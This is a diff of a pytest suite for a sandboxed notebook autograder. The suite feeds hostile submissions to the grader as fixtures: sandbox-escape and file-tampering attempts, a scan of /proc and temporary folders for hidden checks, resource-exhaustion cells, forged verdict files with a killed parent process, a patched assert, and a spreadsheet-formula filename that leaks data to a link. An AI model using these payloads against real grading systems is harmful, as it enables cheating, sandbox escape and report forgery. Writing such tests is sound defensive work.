@@ -1,14 +1,21 @@
-"""grading: submissions built from a student version, honest and hostile, come out of the report as what they are.
+"""grading: a class of honest and hostile submissions comes out of the report as what it is.
 
 One grading run (two sandboxes at a time) covers a small demo assignment that
 needs no TensorFlow: correct, partly correct, unanswered, doctored, looping,
-crashing, and one hostile submission per attack on the grader. One run of the
-real notebook 02 in reduced mode checks the points of a correct submission.
+crashing, files that are not notebooks or not submissions, and hostile
+submissions that try every attack found so far on the grader: points from
+inside the kernel, reading the hidden checks and the solutions, escaping the
+sandbox as root, exhausting memory, tasks, output and disk, stopping the run,
+forging the report. Two smaller runs try the limits without cgroups and the
+sandbox as an unprivileged grader. The real notebook 02 is graded in
+``make test-slow``.
 """
 
 import csv
 import json
+import os
 import socket
+import subprocess
 import sys
 import threading
 import time
@@ -18,30 +25,51 @@ import nbformat
 import psutil
 import pytest
 
-from course_utils import grading, notebooks, sandbox, student
+from course_utils import notebooks, student
+from course_utils.grading import grade, sandbox
+from course_utils.grading.limits import Limits
+from course_utils.grading.report import md
 
 ROOT = Path(__file__).resolve().parent.parent
 SANDBOX_PROBLEM = sandbox.bwrap_problem()
 needs_sandbox = pytest.mark.skipif(SANDBOX_PROBLEM is not None, reason=f"no sandbox here: {SANDBOX_PROBLEM}")
+SLEEPER = "sleep 7777"          # the leftover process an attack starts; none may survive the run
+MARKER = "HIDDEN-CHECK-MARKER-5e1f"
+
+
+def _meta(grade_id, **flags):
+    meta = {"grade": False, "grade_id": grade_id, "locked": False, "schema_version": 3, "solution": False,
+            "task": False}
+    meta.update(flags)
+    return {"nbgrader": meta}
+
+
+def _check(grade_id, points, uses):
+    return {**_meta(grade_id, grade=True, locked=True, points=points), "course": {"uses": uses}}
+
 
 SOLUTION_CELLS = [
-    ("markdown", "# Demo assignment"),
-    ("code", "import math\nbase = 6"),
-    ("markdown", "## Exercise 1: multiply (2 points)\n\n1. Compute `product`. (1 pt)\n2. Why is it even? (1 pt)"),
-    ("code", "### BEGIN SOLUTION\nproduct = base * 7\n### END SOLUTION\nprint(f'product = {product}')"),
-    ("code", "assert product == 42"),
-    ("markdown", "**Answer:** 42 is 6 times 7, and 6 is even."),
-    ("markdown", "## Exercise 2: a square root (1 point)"),
-    ("code", "### BEGIN SOLUTION\nroot = math.sqrt(product)\n### END SOLUTION\nprint(f'root = {root:.4f}')"),
-    ("code", "assert abs(root * root - 42) < 1e-9"),
-    ("code", "print('done')"),
+    ("markdown", "# Demo assignment", {}),
+    ("code", "import math\nbase = 6", {}),
+    ("markdown", "## Exercise 1: multiply (2 points)\n\n1. Compute `product`. (1 pt)\n2. Why is it even? (1 pt)", {}),
+    ("code", "### BEGIN SOLUTION\nproduct = base * 7\n### END SOLUTION\nprint(f'product = {product}')",
+     _meta("ex1_solution", solution=True)),
+    ("code", "assert product == 42", _check("ex1_product", 1, {"product": "json"})),
+    ("markdown", "**Answer:** 42 is 6 times 7, and 6 is even.", _meta("ex1_why", grade=True, solution=True, points=1)),
+    ("markdown", "## Exercise 2: a square root (1 point)", {}),
+    ("code", "### BEGIN SOLUTION\nroot = math.sqrt(product)\n### END SOLUTION\nprint(f'root = {root:.4f}')",
+     _meta("ex2_solution", solution=True)),
+    ("code", "assert abs(root * root - 42) < 1e-9", _check("ex2_root", 1, {"root": "json"})),
+    ("code", "print('done')", {}),
 ]
-SLEEPER = "sleep 7777"          # the leftover process an attack starts; none may survive the run
+CHECKS = {"ex1_product": "assert product == 6 * 7, f'product is {product!r}, not 6 times 7'\n",
+          "ex2_root": "import math\nassert isinstance(root, float) and math.isclose(root * root, 42), "
+                      "f'root is {root!r}, whose square is not 42'\n"}
 
 
 def _notebook(cells):
     make = {"markdown": nbformat.v4.new_markdown_cell, "code": nbformat.v4.new_code_cell}
-    nb = nbformat.v4.new_notebook(cells=[make[kind](src) for kind, src in cells])
+    nb = nbformat.v4.new_notebook(cells=[make[kind](src, metadata=meta) for kind, src, meta in cells])
     nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
     return nb
 
@@ -53,7 +81,7 @@ class Listener:
         self.sock = socket.socket()
         self.sock.bind(("127.0.0.1", 0))
         self.sock.listen(5)
-        self.sock.settimeout(0.2)
+        self.sock.settimeout(0.1)
         self.port, self.accepted, self._stop = self.sock.getsockname()[1], 0, threading.Event()
         self._thread = threading.Thread(target=self._serve, daemon=True)
         self._thread.start()
@@ -75,8 +103,9 @@ class Listener:
 
 @pytest.fixture(scope="module")
 def course(tmp_path_factory):
-    """A course with one solution notebook and its published student version."""
+    """A course with one solution notebook, its published student version, its checks and a hidden check."""
     base = tmp_path_factory.mktemp("grading")
+    os.chmod(base, 0o755)
     course = base / "course"
     (course / "notebooks").mkdir(parents=True)
     solution = course / "notebooks" / "07_demo.ipynb"
@@ -84,17 +113,107 @@ def course(tmp_path_factory):
     reference = student.student_path(solution)
     student.write_notebook_pair(student.make_student_version(notebooks.read(solution), reference, course),
                                 reference)
+    checks = course / "checks" / "07_demo"
+    checks.mkdir(parents=True)
+    for grade_id, code in CHECKS.items():
+        (checks / f"{grade_id}.py").write_text(code)
+    hidden = base / "hidden" / "07_demo"
+    hidden.mkdir(parents=True)
+    (hidden / "root.py").write_text(f"# grade_id: ex2_root\nassert root > 6  # {MARKER}\n")
+    for path in [base, *base.rglob("*")]:
+        os.chmod(path, 0o755 if path.is_dir() else 0o644)
     return base, solution, reference
 
 
 def _answered(published):
     nb = nbformat.reads(json.dumps(published), as_version=4)
-    for cell, (kind, src) in zip(nb.cells, SOLUTION_CELLS):
+    for cell, (kind, src, _) in zip(nb.cells, SOLUTION_CELLS):
         if kind == "code" and "raise NotImplementedError()" in cell.source:
             cell.source = src.replace(student.BEGIN + "\n", "").replace(student.END + "\n", "")
         elif cell.source == student.ANSWER_PROMPT:
             cell.source = src
     return nb
+
+
+def _settings(course, **limits):
+    base, _, reference = course
+    return grade.Settings(reference_dir=reference.parent, checks_dir=base / "course" / "checks",
+                          hidden_dir=base / "hidden", cell_timeout=5, total_timeout=60,
+                          sandboxed=SANDBOX_PROBLEM is None, limits=Limits(**{"memory_mb": 600, "tasks": 128, **limits}))
+
+
+INTRUDER = """
+import ctypes, os, pathlib, socket, subprocess, course_utils
+found = []
+
+
+def nested_user_namespace():
+    if ctypes.CDLL(None, use_errno=True).unshare(0x10000000) != 0:
+        raise OSError("unshare(CLONE_NEWUSER) refused")
+
+
+venv = {venv!r}
+subprocess.run(["mount", "-o", "remount,rw,bind", venv, venv], capture_output=True)
+for attempt in [lambda: open(venv + "/lib/python3.11/site-packages/zz_graded.pth", "w").write("import os"),
+                lambda: open({site_packages!r} + "/zz_graded.pth", "w").write("import os"),
+                lambda: open({solution!r}, "w").write("gone"),
+                lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2),
+                nested_user_namespace]:
+    try:
+        attempt()
+        found.append("an attempt went through")
+    except Exception as exc:
+        print(type(exc).__name__, exc)
+subprocess.Popen({sleeper!r}, start_new_session=True)
+repo = pathlib.Path(course_utils.__file__).parent
+print("grader's code visible:", os.listdir(repo / "grading"))
+for path in [repo.parent / "notebooks" / "02_first_mlp.ipynb", pathlib.Path({solution!r}), pathlib.Path({hidden!r})]:
+    try:
+        found.append(path.read_text()[:40])
+    except OSError as exc:
+        print(type(exc).__name__, exc)
+import glob
+places = glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ")
+for top in ["/tmp", "/home", "/run", "/mnt", "/srv", "/dev/shm"]:
+    places += [os.path.join(d, n) for d, _, files in os.walk(top) for n in files]
+for path in places:
+    try:
+        if ("{marker_head}" + "{marker_tail}").encode() in open(path, "rb").read(1 << 20):
+            found.append(path)
+    except OSError:
+        pass
+raise type("Forged | 7 / 7 |\\n| zz | yes", (Exception,), {{}})("; ".join(found) or "=HYPERLINK(1) nothing | found")
+"""
+
+HOG = ["""
+try:
+    with open("/dev/shm/fill", "wb") as fh:
+        for _ in range(1500):
+            fh.write(b"x" * 2**20)
+except OSError as exc:
+    print("shm:", exc.strerror)
+""", """
+import os
+block = b"e" * 2**20
+for _ in range(120):
+    os.write(2, block)
+""", """
+print("o" * 4 * 2**20)
+""", """
+import threading, time
+threads = []
+try:
+    for _ in range(3000):
+        t = threading.Thread(target=time.sleep, args=(30,), daemon=True)
+        t.start()
+        threads.append(t)
+except RuntimeError as exc:
+    print("threads:", len(threads), exc)
+""", """
+hog = []
+for _ in range(80):
+    hog.append(bytearray(100 * 2**20))
+"""]
 
 
 @pytest.fixture(scope="module")
@@ -111,409 +230,448 @@ def graded(course):
         nb = _answered(published)
         if edit:
             edit(nb)
-        if hostile:  # a given-looking cell of its own, right after the set-up
-            nb.cells.insert(2, nbformat.v4.new_code_cell(hostile))
+        for k, code in enumerate([hostile] if isinstance(hostile, str) else hostile or []):
+            nb.cells.insert(2 + k, nbformat.v4.new_code_cell(code))    # given-looking cells after the set-up
         if execute:
             from nbclient import NotebookClient
 
             NotebookClient(nb, timeout=60, kernel_name="python3", allow_errors=True).execute()
         if doctor:
             doctor(nb)
-        nbformat.write(nb, subs / f"{name}_07_demo.ipynb")
+        nbformat.write(nb, subs / name)
 
-    submission("alice", execute=True)                                            # correct, with outputs
+    submission("alice_07_demo.ipynb", execute=True)                             # correct, with outputs
+    submission("Xena_07_DEMO.ipynb")                                            # correct, the name in other case
 
     def raises(nb):
         nb.cells[7].source = "root = math.sqrt(-product)\nprint(root)"
-    submission("bob", raises)                                                    # partly correct
+    submission("bob_07_demo.ipynb", raises)                                     # partly correct
 
     def doctor(nb):
         out = nb.cells[3].outputs[0]
         out["text"] = out["text"].replace("42", "43")
-    submission("carol", execute=True, doctor=doctor)
+    submission("carol_07_demo.ipynb", execute=True, doctor=doctor)
 
     def loop(nb):
         nb.cells[7].source = "while True:\n    pass"
-    submission("dave", loop)
+    submission("dave_07_demo.ipynb", loop)
 
     def edit_given(nb):
         nb.cells[1].source = "import math\nbase = 7"
-    submission("erin", edit_given)
+    submission("erin_07_demo.ipynb", edit_given)
 
     def unanswered(nb):
         nb.cells[7].source = "# YOUR CODE HERE\nraise NotImplementedError()"
-    submission("frank", unanswered)
+    submission("frank_07_demo.ipynb", unanswered)
 
     def only_pass(nb):
         nb.cells[3].source = "pass\nprint(f'product = {product}')"
         nb.cells[7].source = "pass\nprint(f'root = {root:.4f}')"
-    submission("paula", only_pass)                                               # `pass` everywhere
+    submission("paula_07_demo.ipynb", only_pass)                                # `pass` everywhere
 
     def crash(nb):
         nb.cells[7].source = "import os\nos._exit(1)"
-    submission("ivan", crash)
+    submission("ivan_07_demo.ipynb", crash)
     (subs / "henry_07_demo.ipynb").write_text("this is not json")
+    broken = json.loads(json.dumps(published))
+    broken["nbformat"] = "4"
+    (subs / "nora_07_demo.ipynb").write_text(json.dumps(broken))
+    (subs / "solution_07_demo.ipynb").symlink_to(solution)                      # a link to the solution
+    own_points = _notebook([("markdown", "## Exercise 1: mine (100 points)", {}),
+                            ("code", "assert True", _check("mine", 100, {}))])
+    nbformat.write(own_points, subs / "zoe_homework.ipynb")                     # matches no notebook
+    submission("dup_07_demo.ipynb")
+    submission("Dup-07_demo.ipynb", unanswered)                                 # the same student twice
+    submission('=HYPERLINK("http:x?leak="&A2)|evil\n| forged | 7 |_07_demo.ipynb')
 
-    # the attacks, one per submission; without a sandbox only the memory hog, which the grader's own
-    # memory watch stops: the others would really write into the venv, start a process that outlives
-    # the run, kill the runner and overwrite the solution file (their tests are skipped there)
-    submission("zz5_memory", hostile="hog = []\nfor _ in range(80):\n    hog.append(bytearray(100 * 2**20))")
-    if SANDBOX_PROBLEM is not None:
-        return _grade(subs, base, reference, solution, listener, site_packages)
-    submission("zz1_pth", hostile=f"open({str(site_packages / 'zz_graded.pth')!r}, 'w').write('import os')")
-    submission("zz2_solutions", hostile=(
-        "import course_utils, pathlib\n"
-        "repo = pathlib.Path(course_utils.__file__).parent.parent\n"
-        f"for path in [repo / 'notebooks' / '02_first_mlp.ipynb', pathlib.Path({str(solution)!r})]:\n"
-        "    print(path.read_text()[:100])"))
-    submission("zz3_network", hostile=(
-        f"import socket\nsocket.create_connection(('127.0.0.1', {listener.port}), timeout=5)\nprint('connected')"))
-    submission("zz4_leftover", hostile=(
-        "import subprocess\n"
-        f"subprocess.Popen({SLEEPER.split()!r}, start_new_session=True)\n"
-        "print('started a process that should outlive the run')"))
-    submission("zz6_verdict", hostile=(
-        "import json, os, pathlib\n"
-        "for name in ['.executed.ipynb.status.json', 'result.json']:\n"
-        "    pathlib.Path(name).write_text(json.dumps({'stopped': None, 'cell': None, 'ran': 99}))\n"
-        "os.kill(os.getppid(), 9)\nos._exit(0)"))
-    submission("zz7_vandal", hostile=f"open({str(solution)!r}, 'w').write('gone')")
-    return _grade(subs, base, reference, solution, listener, site_packages)
+    def swallow(nb):            # every exception swallowed, assert patched: the self-checks "pass" in the kernel
+        nb.cells[3].source = ("get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
+                              "import builtins\nbuiltins.AssertionError = type('Nothing', (Exception,), {})\n"
+                              "product = 43")
+        nb.cells[7].source = "root = 'a string'"
+    submission("zz_swallow_07_demo.ipynb", swallow)
+
+    submission("zz_hog_07_demo.ipynb", hostile=HOG)
+
+    def verdict(nb):            # forged hand-over files and verdicts, then the kernel's parent killed
+        nb.cells.insert(2, nbformat.v4.new_code_cell(
+            "import json, os, pathlib\n"
+            "for folder in [pathlib.Path(p) for p in __import__('glob').glob('/tmp/**/export', recursive=True)]"
+            " + [pathlib.Path('.')]:\n"
+            "    (folder / 'result.json').write_text(json.dumps({'stopped': None, 'ran': 99}))\n"
+            "    (folder / 'manifest.json').write_text(json.dumps({'product': 'ok', 'root': 'ok'}))\n"
+            "    (folder / 'product.json').write_text('42')\n"
+            "os.kill(os.getppid(), 9)\nos._exit(0)"))
+    if SANDBOX_PROBLEM is None:  # unsandboxed these would really write, leave processes and kill the runner
+        submission("zz_intruder_07_demo.ipynb", hostile=INTRUDER.format(
+            venv=sys.prefix, site_packages=str(site_packages), solution=str(solution), port=listener.port,
+            sleeper=SLEEPER.split(), hidden=str(base / "hidden" / "07_demo" / "root.py"),
+            marker_head=MARKER[:7], marker_tail=MARKER[7:]))
+        submission("zz_verdict_07_demo.ipynb", verdict)
+    return _grade(subs, base, course, listener, site_packages)
 
 
-def _grade(subs, base, reference, solution, listener, site_packages):
+def _grade(subs, base, course, listener, site_packages):
     """Grade the class in ``subs`` (two at a time) and return what the tests read."""
+    solution = course[1]
     before = solution.read_bytes()
+    rss_before = psutil.Process().memory_info().rss
     start = time.monotonic()
     try:
-        results = grading.grade_folder(subs, base / "report", reference_dir=reference.parent, cell_timeout=5,
-                                       total_timeout=60, protect=[base / "course", subs], jobs=2, memory_mb=600,
-                                       sandboxed=SANDBOX_PROBLEM is None)
+        results = grade.grade_folder(subs, base / "report", _settings(course), jobs=2, protect=[base / "course", subs])
     finally:
         listener.close()
     return {
-        "results": {r.name.split("_07")[0]: r for r in results}, "report": base / "report",
-        "seconds": time.monotonic() - start, "listener": listener, "site_packages": site_packages,
-        "solution": solution, "solution_before": before, "subs": subs, "reference": reference,
+        "results": {r.name: r for r in results}, "report": base / "report", "seconds": time.monotonic() - start,
+        "listener": listener, "site_packages": site_packages, "solution": solution, "solution_before": before,
+        "subs": subs, "reference": course[2], "rss_growth": psutil.Process().memory_info().rss - rss_before,
     }
 
 
-def _rows(result):
-    """The result's run and checks rows by exercise (without the manual-grading rows)."""
-    return {row.exercise: row for row in result.rows if row.status == "checks passed" or row.status not in
-            ("manual grading", "changed given cell", "output not reproduced")}
+def _parts(result):
+    return {p.grade_id: (p.status, p.earned) for p in result.parts}
 
 
 def test_correct_submission_gets_full_autograded_points(graded):
-    r = graded["results"]["alice"]
-    assert r.status == "ran" and r.first_error == "" and r.unanswered == [] and r.checks_failed == []
-    assert r.changed_given == [] and r.doctored == [] and r.sandboxed is (SANDBOX_PROBLEM is None)
-    rows = _rows(r)
-    assert rows["Exercise 1"].status == "checks passed" and rows["Exercise 1"].checks == "all 1 passed"
-    # exercise 1: 2 points, 1 of them for the written "why" task, graded by hand
-    assert r.points == {"Exercise 1": (1.0, 1.0), "Exercise 2": (1.0, 1.0)}
-    manual = [row for row in r.rows if row.status == "manual grading"]
-    assert [(m.exercise, m.manual) for m in manual] == [("Exercise 1", 1)]
-    assert manual[0].detail.startswith("1 of 1 answer cell(s) written")
+    for name in ("alice_07_demo.ipynb", "Xena_07_DEMO.ipynb"):
+        r = graded["results"][name]
+        assert (r.status, r.first_error, r.unanswered, r.changed_given, r.doctored) == ("ran", "", [], [], [])
+        assert r.notebook == "07_demo" and r.sandboxed is (SANDBOX_PROBLEM is None)
+        assert _parts(r) == {"ex1_product": ("passed", 1.0), "ex1_why": ("awaiting grading by hand", None),
+                             "ex2_root": ("passed", 1.0)}
+        assert (r.earned, r.available) == (2.0, 2.0)
+    assert graded["results"]["Xena_07_DEMO.ipynb"].student == "Xena"
 
 
 def test_partly_correct_submission_gets_the_points_of_what_passes(graded):
-    r = graded["results"]["bob"]
+    r = graded["results"]["bob_07_demo.ipynb"]
     assert r.status == "error" and r.first_error.startswith("cell 8 (Exercise 2): ValueError: math domain error")
-    rows = _rows(r)
-    assert rows["Exercise 1"].status == "checks passed" and rows["Exercise 2"].status == "checks failed"
-    assert "cell 9: NameError" in rows["Exercise 2"].detail
-    assert r.points == {"Exercise 1": (1.0, 1.0), "Exercise 2": (0.0, 1.0)} and r.checks_failed == ["Exercise 2"]
+    assert _parts(r)["ex1_product"] == ("passed", 1.0) and _parts(r)["ex2_root"] == ("failed", 0.0)
+    assert "`root` could not be handed over (NameError" in r.parts[2].message
+    assert r.self_checks_failed == ["Exercise 2, ex2_root: the check cell failed"]
 
 
 def test_unanswered_exercises_earn_nothing(graded):
-    frank = graded["results"]["frank"]
-    assert frank.unanswered == ["Exercise 2"] and frank.points["Exercise 2"] == (0.0, 1.0)
-    assert _rows(frank)["Exercise 2"].status == "unanswered"
-    paula = graded["results"]["paula"]       # `pass` everywhere: it runs, but nothing is answered
-    assert paula.unanswered == ["Exercise 1", "Exercise 2"]
-    assert paula.points == {"Exercise 1": (0.0, 1.0), "Exercise 2": (0.0, 1.0)}
-    assert paula.status == "error"           # its checks raise NameError: `ran` is not `checks passed`
+    frank = graded["results"]["frank_07_demo.ipynb"]
+    assert frank.unanswered == ["Exercise 2"] and _parts(frank)["ex2_root"] == ("unanswered", 0.0)
+    paula = graded["results"]["paula_07_demo.ipynb"]       # `pass` everywhere: it runs, but nothing is answered
+    assert paula.unanswered == ["Exercise 1", "Exercise 2"] and paula.earned == 0.0
+    assert paula.status == "error"
+
+
+def test_hidden_check_withholds_points_and_stays_hidden(graded, course, tmp_path):
+    base = course[0]
+    hidden = base / "hidden" / "07_demo"
+    assert _parts(graded["results"]["alice_07_demo.ipynb"])["ex2_root"] == ("passed", 1.0)  # it ran, and passed
+    (tmp_path / "07_demo").mkdir()
+    (tmp_path / "07_demo" / "strict.py").write_text("# grade_id: ex2_root\nassert isinstance(root, int), 'a hidden check'\n")
+    subs = tmp_path / "subs"
+    subs.mkdir()
+    (subs / "alice_07_demo.ipynb").write_bytes((graded["subs"] / "alice_07_demo.ipynb").read_bytes())
+    settings = _settings(course)
+    settings.hidden_dir = tmp_path
+    [r] = grade.grade_folder(subs, tmp_path / "out", settings, jobs=1)
+    assert _parts(r)["ex2_root"] == ("failed", 0.0)
+    assert r.parts[2].message == "hidden check strict.py: AssertionError: a hidden check"
+    (tmp_path / "07_demo" / "bad.py").write_text("assert True\n")
+    with pytest.raises(ValueError, match=r"bad.py does not name its part: start it with a line '# grade_id: "):
+        grade.checker.hidden_checks(tmp_path, "07_demo")
+    assert (hidden / "root.py").read_text().count(MARKER) == 1
 
 
 def test_doctored_output_is_caught(graded):
-    r = graded["results"]["carol"]
-    assert r.status == "ran"
+    r = graded["results"]["carol_07_demo.ipynb"]
+    assert r.status == "ran" and r.earned == 2.0
     assert len(r.doctored) == 1 and r.doctored[0].startswith("cell 4 (Exercise 1): saved output `product = 43`")
 
 
 def test_endless_loop_hits_the_cell_time_limit(graded):
-    r = graded["results"]["dave"]
+    r = graded["results"]["dave_07_demo.ipynb"]
     assert r.status == "cell time limit" and r.first_error == "cell 8 (Exercise 2): cell time limit"
-    assert _rows(r)["Exercise 2"].status == "checks failed" and r.points["Exercise 2"] == (0.0, 1.0)
+    assert _parts(r)["ex2_root"] == ("failed", 0.0) and "nothing was handed over" in r.parts[2].message
     assert r.seconds < 40
 
 
 def test_edited_given_cell_is_reported(graded):
-    r = graded["results"]["erin"]
+    r = graded["results"]["erin_07_demo.ipynb"]
     assert r.changed_given == ["cell 2 ((given)): `import math`"]
-    assert r.points["Exercise 1"] == (0.0, 1.0)        # base = 7 makes the product 49
+    assert _parts(r)["ex1_product"] == ("failed", 0.0)        # base = 7 makes the product 49
+    assert "product is 49, not 6 times 7" in r.parts[0].message
 
 
-def test_file_that_is_not_a_notebook_is_reported(graded):
-    r = graded["results"]["henry"]
-    assert r.status == "not a notebook" and "not a readable notebook" in r.rows[0].detail
+def test_files_that_are_not_gradable_notebooks_are_rows_of_their_own(graded):
+    results = graded["results"]
+    henry, nora = results["henry_07_demo.ipynb"], results["nora_07_demo.ipynb"]
+    assert henry.status == nora.status == "not a gradable notebook"
+    assert henry.first_error.startswith("not JSON") and nora.first_error == "not a version-4 notebook (nbformat '4')"
+    assert henry.earned == 0 and [p.status for p in henry.parts][0] == "not graded: not a gradable notebook"
+    link = results["solution_07_demo.ipynb"]
+    assert link.status == "skipped" and link.notes == ["skipped: a symbolic link (links are never followed)"]
+    assert link.parts == [] and link.earned == 0
+
+
+def test_points_are_the_courses_never_the_files(graded):
+    zoe = graded["results"]["zoe_homework.ipynb"]
+    assert (zoe.status, zoe.notebook, zoe.parts) == ("matches no notebook of the course", "", [])
+    assert zoe.notes[0].startswith("matches no notebook of the course (0 points)")
+    book = (graded["report"] / "gradebook.csv").read_text()
+    assert "100" not in book and "zoe" not in book
+
+
+def test_two_files_of_one_student_are_both_reported_and_neither_counted(graded):
+    one, two = graded["results"]["dup_07_demo.ipynb"], graded["results"]["Dup-07_demo.ipynb"]
+    assert one.duplicate_of == ("Dup-07_demo.ipynb",) and two.duplicate_of == ("dup_07_demo.ipynb",)
+    assert one.earned == 2.0 and two.earned == 1.0
+    book = {row["student"]: row for row in csv.DictReader((graded["report"] / "gradebook.csv").open())}
+    assert book["dup"]["07_demo: Exercise 1 (/1)"] == "" and book["Dup"]["07_demo: Exercise 1 (/1)"] == ""
+    assert "ALSO SUBMITTED for the same student and notebook: Dup-07_demo.ipynb" in \
+        (graded["report"] / "report.md").read_text().replace("\\", "")
 
 
 def test_dead_kernel_is_reported(graded):
-    r = graded["results"]["ivan"]
+    r = graded["results"]["ivan_07_demo.ipynb"]
     assert r.status == "kernel died" and r.first_error == "cell 8 (Exercise 2): kernel died"
 
 
+def test_swallowed_exceptions_and_a_patched_assert_earn_nothing(graded):
+    r = graded["results"]["zz_swallow_07_demo.ipynb"]
+    assert r.status == "ran" and r.first_error == "" and r.self_checks_failed == []   # fooled inside the kernel
+    assert _parts(r)["ex1_product"] == ("failed", 0.0) and _parts(r)["ex2_root"] == ("failed", 0.0)
+    assert r.parts[0].message == "check ex1_product: AssertionError: product is 43, not 6 times 7"
+
+
+def test_resources_are_limited_and_reported(graded):
+    r = graded["results"]["zz_hog_07_demo.ipynb"]
+    usage = r.usage
+    assert r.status.startswith("memory limit exceeded (peak ") and r.status.endswith("limit 600 MB)")
+    assert 550 < usage["memory_mb"] < 2500
+    assert usage["stream_bytes"] >= 120 * 2**20                     # counted, not kept
+    assert usage["truncated_cells"] == [3, 4]                         # the kernel forwards fd 2 as output too
+    hits = " ".join(usage["limits_hit"])
+    if usage["enforced_by"].startswith("cgroup"):
+        assert "task limit reached" in hits and "at 128 tasks" in hits
+    assert "the sandbox's /dev/shm full (64 of 64 MB)" in hits
+    assert graded["rss_growth"] < 200 * 2**20, "the grader's memory grew with what a submission printed"
+
+
 @needs_sandbox
-def test_attack_pth_file_in_the_environment_is_refused(graded):
-    r = graded["results"]["zz1_pth"]
-    assert r.first_error.startswith("cell 3 ((given)): OSError: [Errno 30] Read-only file system")
+def test_attacks_from_inside_the_sandbox_change_nothing_outside(graded):
+    r = graded["results"]["zz_intruder_07_demo.ipynb"]
+    assert r.first_error.startswith("cell 3 ((given)): Forged | 7 / 7 |") and "nothing | found" in r.first_error and "an attempt went through" not in r.first_error
     assert not (graded["site_packages"] / "zz_graded.pth").exists()
-
-
-@needs_sandbox
-def test_attack_reading_the_solutions_finds_nothing(graded):
-    r = graded["results"]["zz2_solutions"]
-    assert r.first_error.startswith("cell 3 ((given)): FileNotFoundError: [Errno 2] No such file or directory")
-    assert "02_first_mlp.ipynb" in r.first_error
-
-
-@needs_sandbox
-def test_attack_on_a_local_network_service_is_refused(graded):
-    r = graded["results"]["zz3_network"]
-    assert r.first_error.startswith("cell 3 ((given)): ConnectionRefusedError")
+    assert not list(Path(sys.prefix).rglob("zz_graded.pth"))
     assert graded["listener"].accepted == 0
-
-
-@needs_sandbox
-def test_attack_leaving_a_process_behind_leaves_none(graded):
-    r = graded["results"]["zz4_leftover"]
-    assert r.status == "ran"
+    assert graded["solution"].read_bytes() == graded["solution_before"]
     alive = [p for p in psutil.process_iter(["cmdline"]) if " ".join(p.info["cmdline"] or []) == SLEEPER]
     assert alive == []
-
-
-def test_attack_allocating_8_gb_is_stopped_at_the_memory_limit(graded):
-    r = graded["results"]["zz5_memory"]
-    assert r.status.startswith("memory limit exceeded (peak ") and r.status.endswith("limit 600 MB)")
-    peak = float(r.status.split("peak ")[1].split(" MB")[0])
-    assert 600 < peak < 2500
-    assert r.first_error.startswith("cell 3 ((given)): memory limit exceeded")
+    for name in ("report.md", "report.csv", "gradebook.csv"):
+        assert MARKER not in (graded["report"] / name).read_text()
 
 
 @needs_sandbox
-def test_attack_forging_its_verdict_is_graded_as_what_it_did(graded):
-    r = graded["results"]["zz6_verdict"]
+def test_a_forged_verdict_and_a_killed_parent_are_graded_as_what_they_did(graded):
+    r = graded["results"]["zz_verdict_07_demo.ipynb"]
     assert r.status == "kernel died" and r.first_error == "cell 3 ((given)): kernel died"
-    assert r.points == {"Exercise 1": (0.0, 1.0), "Exercise 2": (0.0, 1.0)}
+    assert r.earned == 0 and all("nothing was handed over" in p.message for p in r.parts if p.kind == "auto")
 
 
-def test_attack_on_the_course_files_changes_nothing(graded):
-    assert graded["solution"].read_bytes() == graded["solution_before"]
-    report = (graded["report"] / "report.csv").read_text()
-    assert "changed during grading" not in report
-    if SANDBOX_PROBLEM is None:  # without a sandbox the vandal is not in the class (see `graded`)
-        r = graded["results"]["zz7_vandal"]
-        assert r.first_error.startswith("cell 3 ((given)): FileNotFoundError")
+def test_the_report_cannot_be_forged(graded):
+    report = graded["report"]
+    names = {p.name for p in graded["subs"].iterdir()}
+    rows = list(csv.DictReader((report / "report.csv").open()))
+    assert {row["file"] for row in rows} == {n if not n.startswith("=") else "'" + n.replace("\n", " ") for n in names}
+    assert not [v for row in rows for v in row.values() if v and v[0] in "=+-@\t\r"]
+    table = [line for line in (report / "report.md").read_text().splitlines() if line.startswith("| ")]
+    assert len(table) == len(names) + 2          # the header and its rule, then one row per file, no forged row
+    assert all(line.count(" | ") == 10 for line in table)
+    assert {row["sandboxed"] for row in rows if row["sandboxed"]} == {"yes" if SANDBOX_PROBLEM is None else "NO"}
 
 
 def test_report_gradebook_and_scratch_folders(graded):
     report = graded["report"]
-    rows = list(csv.DictReader((report / "report.csv").open()))
-    names = {p.name for p in graded["subs"].iterdir()}
-    assert {row["notebook"] for row in rows} == names
-    assert {row["sandboxed"] for row in rows} == {"yes" if SANDBOX_PROBLEM is None else "NO"}
-    carol = [(row["exercise"], row["status"]) for row in rows if row["notebook"].startswith("carol")]
-    assert ("Exercise 1", "output not reproduced") in carol
-    assert "| dave_07_demo.ipynb | cell time limit |" in (report / "report.md").read_text()
+    carol = [row["status"] for row in csv.DictReader((report / "report.csv").open())
+             if row["file"].startswith("carol")]
+    assert "output not reproduced" in carol
+    assert "| dave\\_07\\_demo.ipynb | dave | 07\\_demo | cell time limit |" in (report / "report.md").read_text()
     book = {row["student"]: row for row in csv.DictReader((report / "gradebook.csv").open())}
     assert book["alice"]["07_demo: Exercise 1 (/1)"] == "1" and book["alice"]["autograded total"] == "2"
     assert book["bob"]["autograded total"] == "1" and book["frank"]["07_demo: Exercise 2 (/1)"] == "0"
     assert book["alice"]["manual points to grade"] == "1"
-    assert not list(Path(grading.tempfile.gettempdir()).glob("grading-*/*")), "a scratch folder was left behind"
+    assert not list(Path(grade.tempfile.gettempdir()).glob("grading-*/*")), "a working folder was left behind"
 
 
-def test_report_is_the_same_whatever_the_number_of_jobs(graded, tmp_path):
+def test_markdown_and_csv_escaping_round_trips_hostile_names():
+    from course_utils.grading.report import csv_cell
+
+    assert md("a | b\n| c | d |") == "a \\| b \\| c \\| d \\|"
+    assert md("<script>alert(1)</script>") == "&lt;script&gt;alert(1)&lt;/script&gt;"
+    assert md("x" * 500, 10) == "x" * 9 + "…"
+    for text in ("=1+1", "+cmd", "-2", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://x?leak="&A2,"c")'):
+        assert csv_cell(text).startswith("'"), text
+    assert csv_cell("plain, text") == "plain, text" and csv_cell("two\nlines") == "two lines"
+
+
+def test_report_is_the_same_whatever_the_number_of_jobs(graded, course, tmp_path):
     subs = tmp_path / "subs"
     subs.mkdir()
-    for name in ("alice", "bob", "frank"):
-        (subs / f"{name}_07_demo.ipynb").write_bytes((graded["subs"] / f"{name}_07_demo.ipynb").read_bytes())
